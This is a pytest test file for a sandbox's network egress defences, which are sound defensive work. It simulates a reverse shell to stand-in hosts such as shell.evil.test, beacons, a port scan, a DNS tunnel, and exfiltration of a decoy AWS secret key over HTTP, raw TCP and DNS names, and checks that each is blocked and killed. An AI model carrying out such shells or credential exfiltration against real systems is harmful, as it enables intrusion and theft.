"""What a hostile server does rather than what it says: a shell, a beacon, an upload, a theft; and its end."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from tests.attacks.inside import World
from tests.egress.battery import LOOKUPS, V4, Sandboxed, carried, heard, new_word, outside
from tests.egress.internet import Flow, Internet

pytestmark = pytest.mark.backends(docker="user")

BREACH = 124
WEB = Flow("tcp", V4, 80)
Start = Callable[..., Sandboxed]


@pytest.fixture
def start(internet: Internet, world: World) -> Iterator[Start]:
    """Starts a sandbox with this profile; all of them end with the test."""
    made: list[Sandboxed] = []

    def begin(profile: str, *options: str) -> Sandboxed:
        made.append(Sandboxed(internet, world, profile, *options))
        made[-1].call("own.heard")
        internet.begin()
        return made[-1]

    yield begin
    for one in made:
        one.close()


@pytest.fixture
def control(internet: Internet, world: World) -> Iterator[Callable[..., Any]]:
    """Makes an attack outside; what came of it."""
    with outside(internet, world) as attacker:

        def call(name: str, **asked: Any) -> Any:
            internet.begin()
            return attacker.call(name, **asked)

        yield call


def ended(sandboxed: Sandboxed, rule: str) -> dict[str, Any]:
    """The sandbox was ended for this rule, and the log says so; the evidence."""
    status, said = sandboxed.finished()
    assert status == BREACH, said
    assert f"rule `{rule}`" in said
    (breach,) = sandboxed.rows("quota.breach")
    assert breach["detail"]["quota"] == rule
    assert [one["detail"] for one in sandboxed.rows("kill")] == [{"reason": rule}]
    assert sandboxed.rows("session.end")[0]["detail"] == {"status": BREACH, "reason": rule}
    detail: dict[str, Any] = breach["detail"]
    return detail


# --- command and control --------------------------------------------------------------------------


@pytest.mark.threat(
    "K3", backend="native", proves="a reverse shell is refused, and the server killed for trying"
)
@pytest.mark.parametrize("host", ["203.0.113.66", "2001:db8::66", "shell.evil.test"])
def test_a_reverse_shell(host: str, start: Start, control: Callable[..., Any], internet: Internet) -> None:
    inside = start('[network]\nallow = ["allowed.test:443"]\n'
                   '[network.behaviour]\ndenied = "breach"\ndenied_streak = 1\n')  # fmt: skip
    word = new_word()
    internet.rename("shell.evil.test", "203.0.113.66")
    asked = {"host": host, "port": 4444, "word": word}
    inside.ask("behave.reverse_shell", **asked)
    evidence = ended(inside, "network.behaviour.denied")
    assert (evidence["pattern"], evidence["count"], evidence["threshold"]) == ("denied-streak", 1, 1)
    kind, wanted = ("dns.deny", host) if "evil" in host else ("egress.deny", host)
    # A resolver asks for both families of a name: the second time is counted.
    assert [one["detail"]["host"] for one in inside.rows(kind) if "host" in one["detail"]] == [wanted]
    assert inside.rows("egress.behaviour") != []
    assert internet.outside_packets() == []
    assert internet.connections() == []
    assert "got" in control("behave.reverse_shell", **asked)
    assert word.encode() in _until_heard(internet, word)


def _until_heard(internet: Internet, word: str) -> bytes:
    """What the sinks hear; a shell of its own speaks when it comes to it."""
    for _ in range(1000):
        if word.encode() in internet.heard():
            break
    return internet.heard()


@pytest.mark.threat(
    "K3", backend="native", proves="a beacon to an allowed host is told by its intervals and killed"
)
def test_a_beacon(start: Start, control: Callable[..., Any], internet: Internet) -> None:
    profile = """[network]
allow = ["allowed.test:80", "allowed.test:9001"]
[network.behaviour]
idle = "off"
beacon = "breach"
beacon_count = 3
beacon_jitter = 0.2
"""
    ways = {"connections": 80, "keepalive": 9001}
    # Side by side: what takes time is the intervals.
    inside = {way: start(profile) for way in ways}
    for way, port in ways.items():
        asked = {"seconds": 1.2, "times": 20, "host": "allowed.test", "port": port, "word": new_word()}
        assert inside[way].call("behave.later", child=False, way=way, **asked) == {"got": None}
    for way, port in ways.items():
        evidence = ended(inside[way], "network.behaviour.beacon")
        assert (evidence["pattern"], evidence["host"]) == ("beacon", f"allowed.test:{port}")
        assert (evidence["intervals"], evidence["threshold"]) == (3, 0.2)
        assert 1.1 < evidence["shortest"] <= evidence["mean"] <= evidence["longest"] < 2
        assert evidence["ratio"] <= 0.2
        (event,) = inside[way].rows("egress.behaviour")
        assert event["rule"] == "network.behaviour.beacon"
        assert event["detail"].items() <= evidence.items()
    assert len(internet.requests()) <= 4
    # What stays regular for longer is what the rule ended.
    control(
        "behave.later",
        child=False,
        way="connections",
        seconds=0.05,
        times=8,
        host="allowed.test",
        port=80,
        word="b",
    )
    for _ in range(2000):
        if len(internet.requests()) == 8:
            return
    pytest.fail("the control sent no beacon")


@pytest.mark.threat(
    "K3", backend="native", proves="traffic that no request asked for ends the session, where it is told to"
)
def test_traffic_while_no_request_is_open(
    start: Start, control: Callable[..., Any], internet: Internet
) -> None:
    inside = start('[network]\nallow = ["allowed.test:80"]\n[network.behaviour]\nidle = "breach"\n')
    asked = {"way": "connections", "seconds": 0.1, "times": 3, "host": "allowed.test", "port": 80}
    # While the call is open the same is nothing.
    request = "GET /asked HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
    assert "200 OK" in inside.call("streams.tell", host="allowed.test", port=80, word=request)["got"]
    inside.call("behave.later", child=False, word="unasked", **asked)
    evidence = ended(inside, "network.behaviour.idle")
    assert (evidence["pattern"], evidence["host"], evidence["times"]) == ("idle", "allowed.test:80", 1)
    # The first may have passed before it was judged; there was no second.
    assert [one["path"] for one in internet.requests()] in (["/asked"], ["/asked", "/unasked"])
    control("behave.later", child=False, word="unasked", **asked)
    for _ in range(2000):
        if len(internet.requests()) == 3:
            return
    pytest.fail("the control sent nothing")


@pytest.mark.threat(
    "K3", backend="native", proves="denied attempts in a row end the session, where it is told to"
)
def test_a_scan(start: Start, internet: Internet) -> None:
    inside = start('[network.behaviour]\ndenied = "breach"\ndenied_streak = 10\n')
    for port in range(1000, 1009):
        assert "failed" in inside.call("streams.tell", host="203.0.113.67", port=port, word="x")
    inside.ask("streams.tell", host="203.0.113.67", port=1009, word="x")
    evidence = ended(inside, "network.behaviour.denied")
    assert (evidence["count"], evidence["threshold"]) == (10, 10)
    assert [one["detail"]["port"] for one in inside.rows("egress.deny")] == list(range(1000, 1010))
    assert internet.outside_packets() == []


# --- amounts --------------------------------------------------------------------------------------

BUDGET = 64 << 10


@pytest.mark.threat(
    "D3", backend="native", proves="an upload to an allowed host ends at its budget, to the byte"
)
@pytest.mark.parametrize(
    ("name", "port", "budget", "rule"),
    [
        pytest.param("tls.post", 443, '[network.budget."allowed.test:443"]\nupload = "64K"\n',
                     'network.budget."allowed.test:443".upload', id="HTTPS"),
        pytest.param("behave.upload", 9001, '[network.budget."allowed.test:9001"]\nupload = "64K"\n',
                     'network.budget."allowed.test:9001".upload', id="raw"),
        pytest.param("behave.upload", 9001, '', "network.upload", id="the session's"),
        pytest.param("behave.upload_many", 9001, '', "network.upload", id="side by side"),
    ],
)  # fmt: skip
def test_an_upload_beyond_its_budget(
    name: str, port: int, budget: str, rule: str,
    start: Start, control: Callable[..., Any], internet: Internet,
) -> None:  # fmt: skip
    session = "" if budget else 'upload = "64K"\n'
    inside = start(f'[network]\nallow = ["allowed.test:443", "allowed.test:9001"]\n{session}{budget}')
    word = new_word() + "\n"
    asked = {"host": "allowed.test", "port": port, "size": 1 << 20, "word": word if port == 9001 else "up"}
    inside.ask(name, **asked)
    evidence = ended(inside, rule)
    assert evidence["limit"] == BUDGET < evidence["used"]
    assert internet.requests() == []  # none was complete
    assert len(internet.heard()) <= BUDGET
    assert len(carried(internet, Flow("tcp", V4, port))) <= BUDGET
    assert sum(one["detail"]["up"] for one in inside.rows("egress.close")) <= BUDGET
    assert control(name, **asked) == {"got": 1 << 20}
    arrived = len(internet.heard()) if port == 9001 else internet.requests()[0]["length"]
    assert arrived == 1 << 20


@pytest.mark.threat("D3", backend="native", proves="connections beyond their number are not made")
def test_connections_beyond_their_number(start: Start, internet: Internet) -> None:
    inside = start('[network]\nallow = ["allowed.test:80"]\nconnections = 3\n')
    request = "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
    for _ in range(3):
        assert "got" in inside.call("streams.tell", host="allowed.test", port=80, word=request)
    inside.ask("streams.tell", host="allowed.test", port=80, word=request)
    evidence = ended(inside, "network.connections")
    assert (evidence["used"], evidence["limit"]) == (4, 3)
    assert len(internet.requests()) == 3


# --- stolen credentials ---------------------------------------------------------------------------

DECOYS = '[network]\nallow = ["allowed.test:80", "allowed.test:9001"]\n[isolation]\ndecoys = true\n'
THEFTS: list[Any] = [
    pytest.param("behave.by_request", {"host": "allowed.test", "port": 80}, "base64", id="in a request"),
    pytest.param("behave.by_raw", {"host": "allowed.test", "port": 9001}, "plain", id="in a raw protocol"),
    pytest.param("behave.by_name", {"below": "evil.test", "server": "8.8.8.8"}, "hex", id="in a name"),
    pytest.param("behave.by_name", {"below": "x.allowed.test", "server": "10.77.0.2"}, "hex",
                 id="below an allowed name"),
    pytest.param("behave.by_names", {"below": "evil.test", "server": "8.8.8.8"}, "hex", id="in many names"),
    pytest.param("behave.by_bytes", {"host": "allowed.test", "port": 9001}, "reversed",
                 id="backwards, byte by byte"),
    pytest.param("behave.answer", {}, "plain", id="in an answer"),
]  # fmt: skip


def least(text: str) -> str:
    """The beginning of `text` that has 18 letters and digits."""
    return next(text[:end] for end in range(len(text)) if sum(map(str.isalnum, text[:end])) == 18)


@pytest.mark.threat(
    "S6", backend="native", proves="a stolen decoy is seen in requests, names and answers, and kills"
)
@pytest.mark.threat(
    "D3", backend="native", proves="nothing of a stolen decoy arrives: HTTP, raw, DNS, the answer"
)
@pytest.mark.parametrize(("name", "asked", "encoding"), THEFTS)
def test_a_theft(
    name: str, asked: dict[str, Any], encoding: str,
    start: Start, control: Callable[..., Any], internet: Internet, world: World,
) -> None:  # fmt: skip
    inside = start(DECOYS)
    secret = "".join(chr(number ^ 0x55) for number in inside.call("behave.look")["got"])
    inside.ask(name, **asked)
    answer = json.dumps(inside.message())
    evidence = ended(inside, "isolation.decoys")
    assert (evidence["canary"], evidence["encoding"]) == (
        "~/.aws/credentials aws_secret_access_key",
        encoding,
    )
    (event,) = inside.rows("canary.seen")
    assert event["detail"].items() <= evidence.items()
    # 16 letters and digits of it are what is looked for, 15 may arrive; what stands behind them in a log is
    # another connection's, and now and then begins with the very letter that is next.
    spelt = [part for text in (secret, secret[::-1]) for part in (least(text), text.encode().hex()[:40])]
    assert not any(one in answer for one in spelt)
    assert not any(heard(internet, one) for one in spelt)
    assert len(internet.heard()) < len(least(secret[::-1]))
    assert internet.outside_packets(LOOKUPS, WEB, Flow("tcp", V4, 9001)) == []
    assert not any(one in inside.log.read_text() for one in spelt)
    _control_theft(name, asked, control, internet, world)


def _control_theft(
    name: str, asked: dict[str, Any], control: Callable[..., Any], internet: Internet, world: World
) -> None:
    """The same from a home with credentials that nobody watches."""
    secret = new_word() * 2
    directory = world.home / ".aws"
    directory.mkdir(exist_ok=True)
    (directory / "credentials").write_text(f"[default]\naws_secret_access_key = {secret}\n")
    world.own(directory)
    got = control(name, **asked)
    if name == "behave.answer":
        assert got == {"got": secret}
        return
    coded = secret.encode().hex()
    sought = {
        "behave.by_raw": secret,
        "behave.by_bytes": secret[::-1],
        "behave.by_name": coded[:40],
        "behave.by_names": coded[12:24],
    }.get(name)
    assert heard(internet, sought) if sought else internet.requests()[0]["length"] > len(secret), got


# --- a flood of lookups ---------------------------------------------------------------------------

LOOKUPS_MADE = 10_000


@pytest.mark.threat(
    "K3", backend="native", proves="10,000 labels of a DNS tunnel reach nobody, and fill no log"
)
@pytest.mark.threat(
    "D3", backend="native", proves="lookups below a denied name and an allowed wildcard carry nothing out"
)
@pytest.mark.parametrize(
    ("below", "code"),
    [pytest.param("evil.test", "3", id="denied"), pytest.param("sub.allowed.test", "0", id="allowed")],
)
def test_a_dns_tunnel(
    below: str, code: str, start: Start, control: Callable[..., Any], internet: Internet
) -> None:
    inside = start('[network]\nallow = ["*.sub.allowed.test:443"]\n')
    word, half = new_word(), LOOKUPS_MADE // 2
    before = inside.position()
    for tcp in (False, True):
        asked = {"count": half, "below": below, "word": f"{word}-{int(tcp)}", "server": "8.8.8.8", "tcp": tcp}
        assert inside.call("dns.tunnel", **asked) == {"got": {code: half}}
    assert internet.names_asked() == []
    assert internet.outside_packets() == []
    status, said = inside.attacker.finish()
    assert status == 0, said
    rows = inside.rows("dns.deny", before)
    told = [one["detail"] for one in rows if "host" in one["detail"]]
    counted = sum(one["detail"].get("repeated", 0) + one["detail"].get("further", 0) for one in rows)
    expected = LOOKUPS_MADE if below == "evil.test" else 0
    assert len(told) + counted == expected
    # Beside the first ones, one more may be told with every sum.
    assert len(told) <= 512 + len(rows) - len(told)
    # What a person and the log get of it is bounded, however long it goes on.
    assert inside.position() - before < 512 << 10
    assert said.count("\n") <= 15, said
    control("dns.tunnel", count=20, below=below, word=word, server="8.8.8.8", tcp=False)
    assert len(internet.names_asked()) == 20


@pytest.mark.threat(
    "D3", backend="native", proves="only a name that is connected to is asked of the host's resolver"
)
def test_only_names_that_are_connected_to_are_asked(start: Start, internet: Internet) -> None:
    inside = start('[network]\nallow = ["*.sub.allowed.test:80"]\n')
    for number in range(20):
        assert "got" in inside.call("dns.resolve", name=f"n{number}.sub.allowed.test")
    assert internet.names_asked() == []
    inside.call("streams.tell", host="n7.sub.allowed.test", port=80, word="GET / HTTP/1.0\r\n\r\n")
    assert set(internet.names_asked()) == {"n7.sub.allowed.test"}
